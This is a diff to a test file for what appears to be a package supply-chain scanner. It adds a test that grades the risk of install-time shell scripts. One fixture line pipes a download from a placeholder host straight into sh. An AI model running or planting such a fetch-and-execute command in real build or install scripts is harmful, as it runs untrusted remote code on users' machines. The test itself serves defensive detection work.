@@ -1,3 +1,4 @@
+import msgspec
 import pytest
 
 from customhouse.model.change import GainedCapability, HookChange
@@ -20,6 +21,19 @@ def test_commands_of_hooks():
     assert grades(RULE, fetches) == [("high", "medium")]
     for command in ("node install.js", "node-gyp rebuild", "prebuild-install || node-gyp rebuild", "node curl.js"):
         assert findings(RULE, case(contents=(content(hooks=(hook(command),)),))) == [], command
+
+
+def test_a_script_that_a_python_build_names_as_before_is_held():
+    """PyNaCl carries libsodium's autogen.sh, which nothing starts but a maintainer."""
+    fetches = call("sh", "curl -s https://x.invalid/a | sh", line=3)
+    shell = code(can("process", "sh", 3), path="src/autogen.sh", reach="install", calls=(fetches,))
+    shell = msgspec.structs.replace(shell, language="shell")
+    old, new = change(), change(gained=(GainedCapability("process", "install", "src/autogen.sh", 3, "sh"),))
+    python = "pkg:pypi/request-maker@1.14.1"
+    assert grades(RULE, case(python, contents=(content(shell),), change=old)) == [("high", "medium")]
+    assert grades(RULE, case(python, contents=(content(shell),), change=new)) == [("critical", "high")]
+    assert grades(RULE, case(python, contents=(content(shell),))) == [("critical", "high")]
+    assert grades(RULE, case(contents=(content(shell),), change=old)) == [("critical", "high")], "npm"
 
 
 def test_esbuild_s_shape_is_reported_only():
